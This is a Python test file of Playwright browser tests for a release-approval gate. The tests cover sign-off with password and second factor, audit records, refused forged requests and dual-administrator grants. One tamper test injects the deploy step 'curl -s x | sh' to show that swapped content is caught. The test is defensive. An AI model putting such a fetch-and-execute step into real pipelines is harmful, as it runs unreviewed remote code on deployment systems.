"""The approver's pages in a real browser (Debian's Chromium, driven by Playwright)."""

from collections.abc import Iterator
from typing import Any

import pytest

from audit.models import AuditEvent
from changelogs.models import Changelog
from releasegate.models import User
from tests.browser import chromium
from tests.conftest import Cast
from tests.factories import SECOND_FACTOR_URL, changelog_make, totp_code

pytestmark = pytest.mark.browser
PASSWORD = "a-test-password-1234"


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as browser:
        yield browser


@pytest.fixture
def change(cast: Cast) -> Changelog:
    return changelog_make(service=cast.payments_api, by=cast.requester, submitted=True)


def logged_in(browser: Any, live_server: Any, username: str) -> Any:
    page = browser.new_context().new_page()
    page.goto(f"{live_server.url}/admin/login/")
    page.fill("#id_username", username)
    page.fill("#id_password", PASSWORD)
    page.click("input[type=submit]")
    page.wait_for_url(f"{live_server.url}/admin/")
    # Deciding needs a second factor in the session: the code of the person's authenticator app.
    page.goto(f"{live_server.url}{SECOND_FACTOR_URL}")
    page.fill("#id_token", totp_code(User.objects.get(username=username)))
    page.click("#totp-form input[type=submit]")
    page.wait_for_url(f"{live_server.url}/admin/")
    return page


def test_an_approver_finds_the_change_and_approves_it_with_reason_and_password(
    browser: Any, live_server: Any, cast: Cast, change: Changelog
) -> None:
    page = logged_in(browser, live_server, "approver")

    page.click("text=Waiting for my sign-off")
    row = page.locator(f"tr.queue-item[data-changelog='{change.pk}']")
    assert row.count() == 1
    row.locator("a").click()
    assert page.locator("#artifact-digest").inner_text() == change.current_revision.artifact_digest  # type: ignore[union-attr]
    page.click("#approve")
    page.fill("#id_reason", "Evidence complete; rollback plan checked.")
    page.fill("#id_password", PASSWORD)
    page.click("#confirm")

    page.wait_for_selector("#changelog-status")
    assert page.locator("#changelog-status").inner_text() == "Approved"
    assert "Your decision (approved) is recorded" in page.content()
    assert page.locator("#decision-buttons").count() == 0
    event = AuditEvent.objects.get(action="approval:approved")
    assert event.actor == "user:approver"
    assert event.target_id == str(change.pk)


def test_a_wrong_password_records_nothing(browser: Any, live_server: Any, cast: Cast, change: Changelog) -> None:
    page = logged_in(browser, live_server, "approver")
    page.goto(f"{live_server.url}/admin/approvals/approval/queue/{change.pk}/approved/")

    page.fill("#id_password", "not-my-password")
    page.click("#confirm")

    assert "The password is not right; nothing was recorded." in page.content()
    assert not AuditEvent.objects.filter(action="approval:approved").exists()
    # The refusal itself is on the record, with who tried.
    assert AuditEvent.objects.filter(action="authentication:step_up_failed", actor="user:approver").count() == 1
    assert AuditEvent.objects.filter(action="approval:refused", actor="user:approver").count() == 1


def test_the_requester_sees_their_change_without_the_buttons_and_a_forged_post_is_refused(
    browser: Any, live_server: Any, cast: Cast, change: Changelog
) -> None:
    page = logged_in(browser, live_server, "requester")

    page.goto(f"{live_server.url}/admin/approvals/approval/queue/{change.pk}/")
    assert page.locator("#changelog-status").inner_text() == "Submitted"
    assert page.locator("#decision-buttons").count() == 0
    status = page.evaluate(
        """async (url) => {
            const token = document.cookie.split('; ').find(c => c.startsWith('csrftoken=')).split('=')[1];
            const body = new URLSearchParams({csrfmiddlewaretoken: token, reason: 'mine', password: 'PASSWORD'});
            const response = await fetch(url, {method: 'POST', body, credentials: 'same-origin'});
            return response.status;
        }""".replace("PASSWORD", PASSWORD),
        f"{live_server.url}/admin/approvals/approval/queue/{change.pk}/approved/",
    )
    assert status == 403
    assert not AuditEvent.objects.filter(action="approval:approved").exists()
    assert AuditEvent.objects.filter(action="approval:refused", actor="user:requester").count() == 1


def test_an_approver_of_another_domain_does_not_see_the_change(
    browser: Any, live_server: Any, cast: Cast, change: Changelog
) -> None:
    page = logged_in(browser, live_server, "other-approver")

    page.click("text=Waiting for my sign-off")
    assert page.locator(f"tr.queue-item[data-changelog='{change.pk}']").count() == 0
    response = page.goto(f"{live_server.url}/admin/approvals/approval/queue/{change.pk}/")
    assert response.status == 404


@pytest.mark.requirement("PR-03")
def test_content_swapped_between_the_confirm_page_and_the_confirmation_is_not_signed(
    browser: Any, live_server: Any, cast: Cast, change: Changelog
) -> None:
    """The approver opens the confirm page for revision 1 (digest X); the pipeline then swaps
    the digest, adds a `curl … | sh` step and submits again; the approver confirms with their
    password. Nothing is recorded: the page shows what changed, field by field."""
    page = logged_in(browser, live_server, "approver")
    page.goto(f"{live_server.url}/admin/approvals/approval/queue/{change.pk}/approved/")
    shown_hash = page.locator("#signed-hash").inner_text()
    assert shown_hash == change.current_revision.content_hash  # type: ignore[union-attr]

    pipeline = cast.pipeline.client()
    content = change.current_revision.content  # type: ignore[union-attr]
    swapped_digest = "sha256:" + "ee" * 32
    assert (
        pipeline.patch(
            f"/api/v1/changelogs/{change.pk}/",
            {
                "artifact": {**content["artifact"], "digest": swapped_digest},
                "deploy_steps": [*content["deploy_steps"], {"description": "Tooling", "command": "curl -s x | sh"}],
            },
            format="json",
        ).status_code
        == 200
    )
    assert pipeline.post(f"/api/v1/changelogs/{change.pk}/submit").status_code == 200

    page.fill("#id_reason", "Checked revision 1.")
    page.fill("#id_password", PASSWORD)
    page.click("#confirm")

    page.wait_for_selector("#content-changed")
    assert not change.approvals.exists()
    assert AuditEvent.objects.filter(action="approval:refused", actor="user:approver").count() == 1
    changed = page.locator("#content-changed")
    digest_row = changed.locator("tr[data-path='artifact.digest']")
    assert swapped_digest in digest_row.inner_text()
    assert content["artifact"]["digest"] in digest_row.inner_text()
    assert "curl -s x | sh" in changed.locator("tr[data-path='deploy_steps.3.command']").inner_text()
    # The gate does not allow the swapped digest: nobody approved it.
    decision = pipeline.post(
        "/api/v1/gate/check", {"service": "payments-api", "artifact_digest": swapped_digest}, format="json"
    ).json()
    assert decision["decision"] == "deny"

    # Having read what changed, the approver may decide on revision 2, and only that is signed.
    page.fill("#id_password", PASSWORD)
    page.click("#confirm")
    page.wait_for_selector("#changelog-status")
    [approval] = change.approvals.all()
    assert approval.revision.number == 2
    assert approval.content_hash != shown_hash


def test_one_administrator_asks_a_second_confirms_and_then_the_grantee_can_approve(
    browser: Any, live_server: Any, cast: Cast, change: Changelog
) -> None:
    from approvals.models import AuthorityGrant
    from tests.factories import UserFactory

    UserFactory(username="admin-2", is_superuser=True)
    deputy = UserFactory(username="deputy")

    first = logged_in(browser, live_server, "admin")
    first.goto(f"{live_server.url}/admin/approvals/approval/authorities/")
    first.select_option("#id_domain", label="Payments")
    first.select_option("#id_authority", "sign_off")
    first.select_option("#id_user", label="deputy")
    first.fill("#grant-request #id_reason", "Deputy for the payments change board")
    first.fill("#grant-request #id_password", PASSWORD)
    first.click("#grant-request input[type=submit]")
    pending = first.locator("tr.pending-grant")
    assert pending.count() == 1
    assert "sign_off on Payments for deputy" in pending.inner_text()

    # The administrator who asked cannot put it in force.
    pending.locator("input[type=password]").fill(PASSWORD)
    pending.locator("button.confirm-grant").click()
    assert "a second administrator must confirm it" in first.locator("#decide-errors").inner_text()
    assert AuthorityGrant.objects.get(user=deputy).status == "pending"

    second = logged_in(browser, live_server, "admin-2")
    second.goto(f"{live_server.url}/admin/approvals/approval/authorities/")
    row = second.locator("tr.pending-grant")
    row.locator("input[type=password]").fill(PASSWORD)
    row.locator("button.confirm-grant").click()
    assert second.locator("tr.pending-grant").count() == 0
    assert "sign_off on Payments for deputy" in second.locator("#active-grants").inner_text()

    grantee = logged_in(browser, live_server, "deputy")
    grantee.goto(f"{live_server.url}/admin/approvals/approval/queue/{change.pk}/")
    grantee.click("#approve")
    grantee.fill("#id_reason", "Checked.")
    grantee.fill("#id_password", PASSWORD)
    grantee.click("#confirm")
    grantee.wait_for_selector("#changelog-status")
    assert grantee.locator("#changelog-status").inner_text() == "Approved"
